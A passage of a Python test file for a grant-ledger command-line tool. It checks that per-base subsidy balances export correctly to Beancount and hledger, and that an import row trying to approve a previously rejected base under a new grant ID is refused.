    bases' money in one account, and Fava or hledger showed each the other's balance."""
    from decimal import Decimal

    from commands.export import base_account

    amounts = {"渝中基地": "1000", "江北基地": "2000", "b0001": "3000", "B0001": "4000"}
    for n, (base, amount) in enumerate(amounts.items()):
        approved_district_grant(sqlite_ledger, grant=f"G{n}", base=base, unit=f"U{n}")
        sqlite_ledger.ok("disburse", f"G{n}", "--amount", amount, "--voucher", "T1", "--date", "2024-04-10")
    balances = sqlite_ledger.balances()
    for style in ("beancount", "hledger"):
        journal = sqlite_ledger.ok("export", "--format", style).stdout
        held: dict[str, Decimal] = {}
        for line in journal.splitlines():
            parts = line.split()
            if len(parts) == 3 and parts[0].startswith("Assets:") and parts[2] == "CNY":
                held[parts[0]] = held.get(parts[0], Decimal(0)) + Decimal(parts[1])
        assert len(held) == len(amounts), (style, held)
        for base in amounts:
            account = f"Assets:{base_account(base)}:Subsidy"
            assert f"{held[account]:.2f}" == balances[base]["subsidy_available"], (style, base)


def test_an_approve_row_for_a_base_rejected_here_under_another_grant_id_is_refused(
    sqlite_ledger: Ledger, tmp_path: Path
) -> None:
    """Base B0001 applied for here as G1 and rejected: an approve row naming it as G2 "approved
    elsewhere" brought it in approved, no selection and no bodies (found by a red-team pass). It
    is refused (exit 5); a new application goes through the selection."""
    sqlite_ledger.ok("unit", "register", "U1", "--name", "单位U1", "--date", "2024-02-01")
    sqlite_ledger.ok("grant", "apply", "G1", "--unit", "U1", "--base", "B0001",
                     "--programme", "district_base", "--project", "电工", "--amount", "20万",
                     "--date", "2024-03-01")  # fmt: skip
    sqlite_ledger.ok(
        "grant", "reject", "G1", "--reason", "评审未通过", "--date", "2024-03-05", role="approver"
    )
    before = _stored(sqlite_ledger.url)
    row = ["2024-04-02", "U1", "B0001", "G2", "district_base", "approve", "200000", "", "", "",
           "渝人社〔2024〕9号", "", ""]  # fmt: skip
    result = sqlite_ledger("import", str(_book(tmp_path, row)), role="approver")
    assert result.exit_code == 5, (result.stdout, result.stderr)
    assert "was applied for in this ledger as grant G1, which was rejected" in result.stderr
    assert _stored(sqlite_ledger.url) == before
    # another base of the unit, never applied for here, is still brought in approved elsewhere
    other = ["2024-04-02", "U1", "B0002", "G3", "district_base", "approve", "200000", "", "", "",
             "渝人社〔2024〕10号", "", ""]  # fmt: skip
    sqlite_ledger.ok("import", str(_book(tmp_path, other)), role="approver")
